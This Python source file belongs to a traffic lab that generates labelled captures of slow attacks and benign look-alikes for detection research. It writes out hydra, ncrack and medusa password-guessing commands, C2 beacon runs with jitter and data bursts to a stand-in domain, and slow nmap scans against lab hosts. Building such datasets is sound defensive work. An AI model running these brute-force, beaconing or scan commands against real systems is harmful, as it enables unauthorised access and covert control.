#!/usr/bin/env python3
"""Behaviour captures of the FlowSentry traffic lab (issue 16, points 5 and 6).

Two captures made only on request (`lab.py --only behaviour-slow,behaviour-lookalike`):

* behaviour-slow: attacks that are only visible across flows. Slow password
  guessing with real tools at one task with waits (hydra -t 1 -c, ncrack
  cd=/CL=1, medusa runs of 1-3 words with sleeps between them) against SSH,
  FTP, HTTP basic auth, IMAP and POP3; C2 beacons over HTTPS, HTTP and DNS
  (TXT) with 0-50 % jitter, intervals from 2 s to 3 min, missed beats and
  occasional data bursts; a slow nmap scan (-T1/-T2 with --scan-delay) and a
  slow randomised connect sweep.
* behaviour-lookalike: benign traffic that looks like those patterns. NTP
  polling (chronyd as a client), a health-check poller, mail clients checking
  every minute (IMAP, POP3), update checks with a bulk download now and then,
  long idle sessions with keepalives (SSH ServerAliveInterval, TCP
  keepalives), a user who mistypes an SSH password twice and then works, a
  browser opening ~30 connections at once to a CDN edge.

Scenarios run in "groups": each group reserves one client (the benign workers
stay off it) and runs its scenarios on it concurrently; scenarios of a group
talk to different (server, port) pairs, so every flow is given to exactly one
scenario by its endpoints (a compromised host that beacons and guesses
passwords at the same time). Each scenario sizes its counts to the time left
in the capture. Labels and endpoint rules are the lab's (pcapflows.py).
"""
from __future__ import annotations

import json
import math
import os
import random
import shlex
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
C2_DOMAIN = "telemetry-sync.example"   # forwarded by dnsmasq to the DNS C2 server on fs-ext

KINDS = {
    # behaviour-slow
    "slow-ssh-hydra": "bruteforce", "slow-http-hydra": "bruteforce", "slow-pop3-hydra": "bruteforce",
    "slow-ftp-ncrack": "bruteforce", "slow-imap-medusa": "bruteforce",
    "beacon-https": "c2", "beacon-https-slow": "c2", "beacon-http": "c2", "beacon-dns": "c2",
    "slow-nmap": "scan", "slow-sweep": "scan",
    # behaviour-lookalike
    "ntp-chrony": "benign", "health-poller": "benign", "mail-imap": "benign", "mail-pop3": "benign",
    "update-check": "benign", "ssh-idle-keepalive": "benign", "tcp-keepalive-idle": "benign",
    "ssh-mistype": "benign", "browser-burst": "benign",
}

# background of these captures: two workers with a long mean think time (30-35 s
# instead of 1.5 s) and no bulk transfers (bulk, iperf, scp), so that eight to
# ten minutes of capture stay around 2 MB (captures/ must stay under 40 MiB)
_BG = {"workers": 2, "bg_skip": ["bulk", "iperf", "scp"]}

PLANS = {
    # 600 s x dscale; group starts in seconds x dscale
    "behaviour-slow": {"duration": 600, "bg_think": 35.0, **_BG, "groups": [
        {"name": "A", "kinds": ["beacon-https", "slow-ssh-hydra"], "start": (0, 120)},
        {"name": "B", "kinds": ["beacon-http", "slow-http-hydra"], "start": (0, 200)},
        {"name": "C", "kinds": ["beacon-https-slow", "slow-ftp-ncrack"], "start": (0, 60)},
        {"name": "D", "kinds": ["beacon-dns", "slow-imap-medusa", "slow-pop3-hydra"], "start": (0, 150)},
        {"name": "E", "kinds": ["slow-nmap"], "start": (30, 300)},
        {"name": "F", "kinds": ["slow-sweep"], "start": (0, 150)},
    ]},
    "behaviour-lookalike": {"duration": 480, "bg_think": 30.0, **_BG, "groups": [
        {"name": "ntp", "kinds": ["ntp-chrony"], "start": (0, 20)},
        {"name": "poll", "kinds": ["health-poller"], "start": (0, 40)},
        {"name": "imap", "kinds": ["mail-imap"], "start": (0, 60)},
        {"name": "pop3", "kinds": ["mail-pop3"], "start": (0, 120)},
        {"name": "update", "kinds": ["update-check"], "start": (0, 60)},
        {"name": "idle", "kinds": ["ssh-idle-keepalive", "tcp-keepalive-idle"], "start": (20, 150)},
        # one after another, each on a client of its own
        {"name": "short", "kinds": ["ssh-mistype", "browser-burst", "ssh-mistype", "browser-burst"],
         "start": (20, 60), "each": True, "gap": (20, 60)},
    ]},
}

MARGIN = 15   # seconds a scenario leaves before the capture's nominal end


def budget(lab):
    """Seconds a scenario may still run (at least 60 x dscale, for --attacks probes)."""
    return max(60 * lab.dscale, lab.bg_end - time.time() - MARGIN)


def run_group(lab, g, seed):
    rng = random.Random(seed)
    time.sleep(rng.uniform(*g["start"]) * lab.dscale)
    if g.get("each"):
        for i, kind in enumerate(g["kinds"]):
            if i:
                time.sleep(rng.uniform(*g.get("gap", (10, 30))) * lab.dscale)
            if lab.bg_end - time.time() < 45:
                break
            hosts = lab.reserve(rng, 1)
            lab.attack(kind, random.Random(f"{seed}:{kind}#{i}"), hosts=hosts)
            lab.release(hosts)
        return
    hosts = lab.reserve(rng, g.get("hosts", 1))
    ths = []
    for i, kind in enumerate(g["kinds"]):
        delay = 0 if i == 0 else rng.uniform(5, 60) * lab.dscale
        krng = random.Random(f"{seed}:{kind}")
        ths.append(threading.Thread(target=lambda k=kind, d=delay, r=krng: (time.sleep(d),
                                                                            lab.attack(k, r, hosts=hosts)),
                                    daemon=True))
    for t in ths:
        t.start()
    for t in ths:
        t.join()
    lab.release(hosts)


# ----------------------------------------------------------------- servers
def start_servers(lab):
    """Mail (dovecot IMAP :143 / POP3 :110 on fs-files), plain HTTP :80 on
    fs-ext (same server program as its HTTPS), the DNS C2 zone's server on
    fs-ext :53, and the update manifest on nginx."""
    w = lab.work
    os.makedirs(f"{w}/www/updates", exist_ok=True)
    open(f"{w}/www/updates/manifest.json", "w").write(json.dumps({
        "product": "labagent", "channel": "stable", "latest": "4.2.1", "released": "2026-11-02",
        "packages": [{"os": o, "url": f"/dl/file{i}.bin", "sha256": "%064x" % (i * 7919 + 17)}
                     for i, o in enumerate(["linux-x64", "linux-arm64", "win-x64"])]}, indent=1) + "\n")
    import pwd
    lines = []
    for u, p in _labmod(lab).PW.items():
        pw = pwd.getpwnam(u)
        md = f"{pw.pw_dir}/Maildir"
        for d in ("cur", "new", "tmp"):
            os.makedirs(f"{md}/{d}", exist_ok=True)
        r = random.Random(f"{lab.seed}:mail:{u}")
        for i in range(r.randint(3, 12)):
            body = " ".join(r.choice(["meeting", "report", "invoice", "lunch", "update", "draft", "budget",
                                      "review", "ticket", "release"]) for _ in range(r.randint(20, 300)))
            fn = f"{md}/{'cur' if i % 3 else 'new'}/{1764000000 + i}.M{i}P1.lab{':2,S' if i % 3 else ''}"
            open(fn, "w").write(f"From: colleague{i}@lab.test\nTo: {u}@lab.test\nSubject: note {i}\n"
                                f"Date: Mon, 2 Nov 2026 09:{i:02d}:00 +0000\nMessage-ID: <{u}.{i}@lab.test>\n\n{body}\n")
        os.system(f"chown -R {u}:{u} {shlex.quote(md)}")
        lines.append(f"{u}:{{PLAIN}}{p}:{pw.pw_uid}:{pw.pw_gid}::{pw.pw_dir}::")
    open(f"{w}/dovecot.passwd", "w").write("\n".join(lines) + "\n")
    os.makedirs(f"{w}/dovecot-run", exist_ok=True)
    open(f"{w}/dovecot.conf", "w").write(f"""protocols = imap pop3
listen = *
base_dir = {w}/dovecot-run
state_dir = {w}/dovecot-state
log_path = {w}/dovecot.log
ssl = no
disable_plaintext_auth = no
auth_mechanisms = plain login
mail_location = maildir:~/Maildir
first_valid_uid = 100
passdb {{
  driver = passwd-file
  args = scheme=PLAIN username_format=%u {w}/dovecot.passwd
}}
userdb {{
  driver = passwd-file
  args = username_format=%u {w}/dovecot.passwd
}}
service imap-login {{
  inet_listener imaps {{
    port = 0
  }}
}}
service pop3-login {{
  inet_listener pop3s {{
    port = 0
  }}
}}
protocol pop3 {{
  pop3_uidl_format = %08Xu%08Xv
}}
""")
    lab.spawn("files", ["dovecot", "-F", "-c", f"{w}/dovecot.conf"], "dovecot")
    lab.spawn("ext", ["python3", f"{HERE}/extserver.py", "--port", "80"], "extserver-http")
    lab.spawn("ext", ["python3", f"{HERE}/dnsauth.py", "--zone", C2_DOMAIN, "--seed", str(lab.seed)], "dnsauth")
    time.sleep(1)


def _labmod(lab):
    """lab.py's module (it runs as __main__): PW, ADMIN_PW, CLIENTS, HOSTS."""
    import sys
    return sys.modules[type(lab).__module__] if lab is not None else sys.modules.get("__main__")


# --------------------------------------------------------------- scenarios
COMMON_PORTS = [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 587, 993, 995, 1433, 1723, 3306,
                3389, 5432, 5900, 6379, 8000, 8080, 8443, 9200]


def scenario(lab, kind, rng, att, rec):
    """Fill rec (label, tool, victims, rules, params) and return [(host, cmd, timeout)]."""
    labmod = _labmod(lab)
    a, s, w = lab.addr, lab.scale, lab.work
    at = att[0]
    S = {a[x] for x in att}
    B = budget(lab)
    rec["label"] = KINDS[kind]
    rec["params"] = P = {}

    def rule(b, proto=None, bport=None, src=None):
        rec["rules"].append({"a": src or S, "b": set(b), "proto": proto, "bport": bport, "lab": set()})

    def wordlist(n, user, p_right):
        words = rng.sample(lab.wordpool, min(n, len(lab.wordpool)))
        right = labmod.PW.get(user) if user != "admin" else labmod.ADMIN_PW
        if right and rng.random() < p_right:   # sometimes the guessing succeeds late
            words.insert(rng.randrange(len(words) * 2 // 3, len(words) + 1), right)
            P["right_password_at"] = words.index(right) + 1
        fn = f"{w}/wl-{rng.randrange(1 << 30)}.txt"
        open(fn, "w").write("\n".join(words) + "\n")
        return fn, words

    # ---- slow password guessing --------------------------------------------------
    if kind in ("slow-ssh-hydra", "slow-http-hydra", "slow-pop3-hydra"):
        rec["tool"] = "hydra"
        if kind == "slow-ssh-hydra":
            v, port, iv, n = "files", 22, rng.choice([10, 15, 20, 30]), rng.randint(10, 20)
            user = rng.choice(["alice", "bob", "carol", "root", "admin"])
            url = f"ssh://{a[v]}"
        elif kind == "slow-http-hydra":
            v, port, iv, n = "web", 80, rng.choice([2, 3, 5, 8]), rng.randint(30, 60)
            user = "admin"
            url = f"http-get://{a[v]}/admin/"
        else:
            v, port, iv, n = "files", 110, rng.choice([4, 6, 10]), rng.randint(20, 40)
            user = rng.choice(["alice", "bob", "carol", "info", "admin"])
            url = f"pop3://{a[v]}"
        # an attempt takes the wait plus the server's delay of a failed login (sshd, nginx
        # none, dovecot 2 s growing with its per-address auth penalty up to 15 s); words
        # that do not fit before the timeout are not tried
        n = max(3, min(int(n * s), int(B / (iv + 2)) - 1))
        wl, words = wordlist(n, user, 0.3)
        hd = f"{w}/hydra-{rng.randrange(1 << 30)}"
        c = f"mkdir -p {hd} && cd {hd} && hydra -I -q -t 1 -c {iv} -f -l {user} -P {wl} {url}"
        P.update(words=len(words), interval_s=iv, user=user)
        rec["victims"] = [a[v]]
        rule([a[v]], {6}, {port})
        return [(at, c, min(B + 20, len(words) * (iv + 20) + 60))]

    if kind == "slow-ftp-ncrack":
        rec["tool"] = "ncrack"
        v, cd, n = "files", rng.choice([5, 8, 12, 15]), rng.randint(15, 40)
        n = max(3, min(int(n * s), int(B / (cd + 3)) - 1))
        user = rng.choice(["alice", "bob", "carol", "ftp", "admin"])
        wl, words = wordlist(n, user, 0.3)
        c = f"ncrack -v --user {user} -P {wl} -g CL=1,cl=1,at=1,cd={cd}s ftp://{a[v]}:21"
        P.update(words=len(words), connection_delay_s=cd, user=user)
        rec["victims"] = [a[v]]
        rule([a[v]], {6}, {21})
        return [(at, c, min(B + 20, len(words) * (cd + 10) + 60))]

    if kind == "slow-imap-medusa":
        # medusa has no delay between attempts: runs of 1-3 passwords with sleeps between
        rec["tool"] = "medusa"
        v, n = "files", int(rng.randint(10, 24) * s)
        user = rng.choice(["alice", "bob", "carol"])
        wl, words = wordlist(n, user, 0.3)
        parts, i, t, runs = [], 0, 0.0, 0
        while i < len(words):
            k = rng.randint(1, 3)
            chunk = words[i:i + k]
            fn = f"{wl}.{runs}"
            open(fn, "w").write("\n".join(chunk) + "\n")
            gap = rng.uniform(10, 40)
            if t + gap > B - 10:
                break
            parts.append(f"medusa -b -h {a[v]} -u {user} -P {fn} -M imap -t 1 -f; sleep {gap:.1f}")
            i, t, runs = i + k, t + gap + 2 * k, runs + 1
        P.update(words=i, runs=runs, user=user)
        rec["victims"] = [a[v]]
        rule([a[v]], {6}, {143})
        return [(at, "; ".join(parts), B + 20)]

    # ---- beacons --------------------------------------------------------------
    if kind in ("beacon-https", "beacon-https-slow", "beacon-http"):
        rec["tool"] = "beacon.py (python http.client)"
        tgt = rng.choice([a["ext"]] + lab.extra.get("ext", []))   # the C2 host or one of its CDN edges
        if kind == "beacon-https":
            iv, jit, n = rng.choice([2, 3, 5, 8]), rng.choice([0, 0.1, 0.2, 0.3, 0.5]), rng.randint(30, 60)
            extra = f"--burst-p 0.06 --burst-max {rng.choice([8000, 20000, 40000])}"
        elif kind == "beacon-https-slow":
            iv, jit, n = rng.choice([60, 90, 120, 180]), rng.choice([0, 0.1, 0.25, 0.4]), 100
            extra = "--burst-p 0.15 --burst-max 30000"
        else:
            iv, jit, n = rng.choice([10, 15, 30, 45]), rng.choice([0.05, 0.2, 0.35, 0.5]), rng.randint(15, 40)
            extra = f"--scheme http --method get --burst-p 0.08 --burst-max {rng.choice([6000, 15000, 30000])}"
        n = max(3, min(int(n * s), int(B / iv)))
        port = 80 if kind == "beacon-http" else 443
        path = rng.choice(["/api/v2/sync", "/cdn/pixel", "/update/check", "/telemetry", "/__utm.gif",
                           "/jquery-3.3.1.min.js", "/ga.js"] if port == 80 else
                          ["/api/v2/sync", "/cdn/pixel", "/update/check", "/telemetry", "/v1/events"])
        miss = rng.choice([0, 0.03, 0.06, 0.1])
        c = (f"python3 {HERE}/beacon.py --server {tgt} --port {port} --interval {iv} --jitter {jit} "
             f"--count {n} --deadline {int(B)} --miss {miss} {extra} --path {path} --seed {rng.randrange(1 << 30)}")
        P.update(interval_s=iv, jitter=jit, beats=n, miss_p=miss, server=tgt, port=port)
        rec["victims"] = [tgt]
        rule([tgt], {6}, {port})
        return [(at, c, B + 20)]

    if kind == "beacon-dns":
        rec["tool"] = "dnsbeacon.py (python sockets, TXT via the lab resolver)"
        iv, jit, n = rng.choice([5, 10, 20, 30, 60]), rng.choice([0, 0.15, 0.3, 0.5]), rng.randint(15, 60)
        n = max(3, min(int(n * s), int(B / iv)))
        miss = rng.choice([0, 0.03, 0.06, 0.1])
        c = (f"python3 {HERE}/dnsbeacon.py --resolver {a['dns']} --domain {C2_DOMAIN} --interval {iv} "
             f"--jitter {jit} --count {n} --deadline {int(B)} --miss {miss} --burst-p 0.08 "
             f"--seed {rng.randrange(1 << 30)}")
        P.update(interval_s=iv, jitter=jit, beats=n, miss_p=miss, domain=C2_DOMAIN)
        rec["victims"] = [a["dns"], a["ext"]]
        rule([a["dns"]], {17, 6}, {53})
        rule([a["ext"]], {17, 6}, {53}, src={a["dns"]})   # dnsmasq -> the zone's server on fs-ext
        return [(at, c, B + 20)]

    # ---- slow scans -----------------------------------------------------------
    if kind == "slow-nmap":
        rec["tool"] = "nmap"
        pool = ["web", "files", "dns", "ntp", "ext"] + [x for x in labmod.CLIENTS if x not in att]
        vs = rng.sample(pool, rng.randint(2, 4))
        T = rng.choice(["-T1", "-T2"])
        d = rng.choice([3, 5, 8, 10])
        np_ = rng.randint(6, 12)
        np_ = max(2, min(np_, int(0.8 * B / (d * len(vs)))))
        ports = sorted(rng.sample(COMMON_PORTS, np_))
        st = rng.choice(["-sS", "-sS", "-sT"])
        c = (f"nmap -n -Pn {st} {T} --scan-delay {d}s --max-scan-delay {d}s --max-retries 1 "
             f"-p {','.join(map(str, ports))} {' '.join(a[x] for x in vs)}")
        P.update(hosts=len(vs), ports=len(ports), scan_delay_s=d, template=T)
        rec["victims"] = [a[x] for x in vs]
        rule(rec["victims"])
        return [(at, c, min(B + 30, len(vs) * len(ports) * d * 1.6 + 60))]

    if kind == "slow-sweep":
        rec["tool"] = "sweep.py (python sockets, TCP connect)"
        everyone = [a[x] for x in labmod.HOSTS if x not in att] + [ip for v in lab.extra.values() for ip in v]
        plan, t = [], 0.0
        for _ in range(int(rng.randint(15, 40) * s)):
            dl = rng.uniform(5, 30)
            if t + dl > B - 10:
                break
            t += dl
            plan.append([round(dl, 2), rng.choice(everyone), rng.choice(COMMON_PORTS)])
        fn = f"{w}/sweep-{rng.randrange(1 << 30)}.json"
        json.dump(plan, open(fn, "w"))
        c = f"python3 {HERE}/sweep.py --plan {fn} --seed {rng.randrange(1 << 30)}"
        P.update(connections=len(plan), mean_gap_s=round(t / max(1, len(plan)), 1))
        rec["victims"] = sorted({x[1] for x in plan})
        rule(rec["victims"], {6})
        return [(at, c, t + 40)]

    # ---- benign look-alikes ------------------------------------------------------
    lab_ips = {ip for ip in a.values()} | {ip for v in lab.extra.values() for ip in v}

    def dns_rule():
        rule([a["dns"]], {17, 6}, {53})

    if kind == "ntp-chrony":
        rec["tool"] = "chronyd (client, -x: never touches the clock)"
        conf = rng.choice([f"pool pool.ntp.lab.test iburst maxsources {rng.choice([3, 4])} minpoll {rng.choice([4, 5])} maxpoll 6",
                           "server ntp.lab.test iburst minpoll 4 maxpoll 6",
                           "server time.lab.test iburst minpoll 5 maxpoll 6\nserver ntp.lab.test minpoll 5 maxpoll 6"])
        fn = f"{w}/chrony-client-{at}.conf"
        open(fn, "w").write(f"{conf}\ncmdport 0\nbindcmdaddress /\npidfile {w}/chrony-client-{at}.pid\n")
        dur = int(B)
        c = f"timeout -s INT {dur} chronyd -d -x -f {fn} >/dev/null 2>&1"
        P.update(config=conf.replace("\n", "; "), duration_s=dur)
        rec["victims"] = [a["ntp"]] + lab.extra.get("ntp", [])
        rule(rec["victims"], {17}, {123})
        dns_rule()
        return [(at, c, dur + 10)]

    if kind == "health-poller":
        rec["tool"] = "lookalike.py poll (python http.client, one connection per probe)"
        cand = ["http://www.lab.test/health", "http://intranet.lab.test/health", "https://static.lab.test/health",
                "https://www.lab.test/health", "https://portal.lab.test/health", f"http://{a['ext']}/health"]
        cand += [f"http://{ip}/health" for ip in lab.extra.get("web", [])[:2]]
        tg = rng.sample(cand, rng.randint(3, 5))
        iv = rng.choice([10, 15, 20, 30])
        dur = int(B)
        ua = rng.choice(["Prometheus/2.45.0", "check_http/v2.3.3 (monitoring-plugins 2.3.3)", "kube-probe/1.28",
                         "Zabbix", "Uptime-Kuma/1.23.4"])
        c = (f"python3 {HERE}/lookalike.py poll --interval {iv} --deadline {dur} --ua {shlex.quote(ua)} "
             f"--seed {rng.randrange(1 << 30)} " + " ".join(tg))
        P.update(targets=tg, interval_s=iv, user_agent=ua)
        rec["victims"] = sorted({a["web"], a["ext"]} | set(lab.extra.get("web", [])) | set(lab.extra.get("ext", [])))
        rule(rec["victims"], {6})
        dns_rule()
        return [(at, c, dur + 10)]

    if kind in ("mail-imap", "mail-pop3"):
        proto = kind.split("-")[1]
        rec["tool"] = f"lookalike.py {proto} (python {'imaplib' if proto == 'imap' else 'poplib'})"
        u = rng.choice(list(labmod.PW))
        iv = 60 if proto == "imap" else rng.choice([60, 60, 120])
        dur = int(B if proto == "imap" else B * rng.uniform(0.5, 0.85))
        c = (f"python3 {HERE}/lookalike.py {proto} --host mail.lab.test --user {u} "
             f"--password {shlex.quote(labmod.PW[u])} --interval {iv} --deadline {dur} --seed {rng.randrange(1 << 30)}")
        P.update(interval_s=iv, user=u, duration_s=dur)
        rec["victims"] = [a["files"]]
        rule([a["files"]], {6}, {143 if proto == "imap" else 110})
        dns_rule()
        return [(at, c, dur + 15)]

    if kind == "update-check":
        rec["tool"] = "curl"
        iv = rng.choice([90, 120, 180, 240])
        dur = int(B)
        ua = rng.choice(["labagent-updater/4.2.0 (linux-x64)", "Debian APT-HTTP/1.3 (2.6.1)",
                         "Microsoft-Delivery-Optimization/10.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0"])
        small = sorted(lab.bulk, key=lambda p: os.path.getsize(f"{w}/www{p}"))[:6]
        checks = max(1, int(dur / iv))
        dl = set(rng.sample(range(checks), 1)) if checks > 1 else set()
        cmds, t = [], 0.0
        for i in range(checks):
            cmds.append(f"curl -sk -o /dev/null -A {shlex.quote(ua)} https://static.lab.test/updates/manifest.json")
            if i in dl:
                f = rng.choice(small)
                lim = rng.choice(["", "--limit-rate 500k", "--limit-rate 2M"])
                cmds.append(f"sleep {rng.uniform(0.5, 3):.1f}; curl -sk -o /dev/null {lim} -A {shlex.quote(ua)} https://static.lab.test{f}")
                P["download"] = f
            sl = iv * rng.uniform(0.9, 1.1)
            if t + sl > dur - 5:
                break
            t += sl
            cmds.append(f"sleep {sl:.1f}")
        P.update(interval_s=iv, checks=checks, user_agent=ua)
        rec["victims"] = [a["web"]] + lab.extra.get("web", [])
        rule(rec["victims"], {6}, {443})
        dns_rule()
        return [(at, "; ".join(cmds), dur + 30)]

    if kind == "ssh-idle-keepalive":
        rec["tool"] = "ssh (sshpass) -o ServerAliveInterval"
        u = rng.choice(list(labmod.PW))
        ka = rng.choice([15, 30, 60])
        dur = int(B * rng.uniform(0.6, 1.0))
        c = (f"sshpass -p {shlex.quote(labmod.PW[u])} ssh -n -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
             f"-o LogLevel=ERROR -o ServerAliveInterval={ka} {u}@ssh.lab.test 'sleep {dur}'")
        P.update(server_alive_interval_s=ka, duration_s=dur, user=u)
        rec["victims"] = [a["files"]]
        rule([a["files"]], {6}, {22})
        dns_rule()
        return [(at, c, dur + 15)]

    if kind == "tcp-keepalive-idle":
        rec["tool"] = "browse.py --mode longlived (python sockets, SO_KEEPALIVE)"
        host = rng.choice(["portal.lab.test", "news.lab.test"])
        dur = int(B * rng.uniform(0.5, 0.9))
        c = f"python3 {HERE}/browse.py --mode longlived --host {host} --tls --deadline {dur} --seed {rng.randrange(1 << 30)}"
        P.update(host=host, duration_s=dur)
        rec["victims"] = [a["ext"]]
        rule([a["ext"]], {6}, {443})
        dns_rule()
        return [(at, c, dur + 15)]

    if kind == "ssh-mistype":
        rec["tool"] = "ssh in a pty (lookalike.py sshtype) / sshpass"
        u = rng.choice(list(labmod.PW))
        right = labmod.PW[u]

        def typo(p):
            i = rng.randrange(len(p))
            return rng.choice([p[:i] + p[i + 1:], p[:i] + rng.choice("asdfjkl;1") + p[i:], p.lower(), p + p[-1]]) or "x"
        w1, w2 = typo(right), typo(right)
        w2 = w2 if w2 != right else right + "1"
        w1 = w1 if w1 != right else right[:-1]
        cmdsl = rng.sample(["ls -la", "cd files && ls", "df -h", "uptime", "tail -n 5 /etc/passwd", "ps aux | head",
                            "free -m", "cat /etc/os-release", "who", "du -sh files", "date", "echo $SHELL"],
                           rng.randint(3, 6))
        variant = "one-connection" if rng.random() < 0.6 else "sshpass-retries"
        seed = rng.randrange(1 << 30)
        q = shlex.quote
        inter = (f"python3 {HERE}/lookalike.py sshtype --host ssh.lab.test --user {u} --seed {seed} "
                 f"--cmds {q(json.dumps(cmdsl))} ")
        if variant == "one-connection":   # three prompts of one connection: two typos, then right
            c = inter + f"--passwords {q(json.dumps([w1, w2, right]))}"
        else:                              # sshpass gives up at the second prompt: one connection per try
            o = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"
            c = (f"sshpass -p {q(w1)} ssh {o} {u}@ssh.lab.test true; sleep {rng.uniform(2, 6):.1f}; "
                 f"sshpass -p {q(w2)} ssh {o} {u}@ssh.lab.test true; sleep {rng.uniform(2, 6):.1f}; "
                 + inter + f"--passwords {q(json.dumps([right]))}")
        P.update(variant=variant, user=u, commands=len(cmdsl))
        rec["victims"] = [a["files"]]
        rule([a["files"]], {6}, {22})
        dns_rule()
        return [(at, c, 120)]

    if kind == "browser-burst":
        rec["tool"] = "browse.py --conns (python sockets, HTTP/1.1)"
        host, tls = rng.choice([("img.lab.test", True), ("static.lab.test", True), ("static.lab.test", False)])
        n = rng.randint(26, 34)
        d = rng.randint(20, 40)
        ua = rng.choice(["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
                         "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"])
        root = "" if host == "img.lab.test" else f"--root {w}/www"
        c = (f"python3 {HERE}/browse.py --host {host} {'--tls' if tls else ''} {root} --conns {n} "
             f"--deadline {d} --seed {rng.randrange(1 << 30)} --ua {shlex.quote(ua)}")
        P.update(host=host, tls=tls, connections=n)
        srv = "ext" if host == "img.lab.test" else "web"
        rec["victims"] = [a[srv]] + lab.extra.get(srv, [])
        rule(rec["victims"], {6}, {443 if tls else 80})
        dns_rule()
        return [(at, c, d + 10)]

    raise ValueError(kind)
